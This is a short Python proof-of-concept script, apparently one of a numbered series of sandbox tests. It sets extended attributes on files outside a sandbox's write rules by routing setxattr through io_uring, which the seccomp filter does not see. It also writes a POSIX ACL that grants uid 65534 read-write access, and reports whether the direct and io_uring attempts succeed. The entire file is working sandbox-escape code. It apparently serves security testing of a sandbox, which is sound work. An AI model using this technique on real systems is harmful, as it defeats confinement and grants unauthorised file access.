"""V4: extended attributes (an ACL: a chmod by other means) set on files OUTSIDE every write rule,
by path, through io_uring (IORING_OP_SETXATTR), which the seccomp filter does not see; setxattr(2)
itself is refused. Usage: python attack_xattr.py FILE..."""
import errno
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import uring_xattr as u

for path in sys.argv[1:]:
    try:
        os.setxattr(path, "user.kprobe4", b"direct")
        direct = "ok"
    except OSError as e:
        direct = errno.errorcode.get(e.errno, str(e.errno))
    r1 = u.setxattr(path, "user.kprobe4", b"pwned-via-io_uring")
    r2 = u.setxattr(path, "system.posix_acl_access", u.acl_rw_for(65534, 7 if os.path.isdir(path) else 6))
    print(f"KPROBE4 {path}: setxattr(2)={direct} io_uring user.kprobe4={r1} io_uring ACL(uid 65534 rw)={r2}")
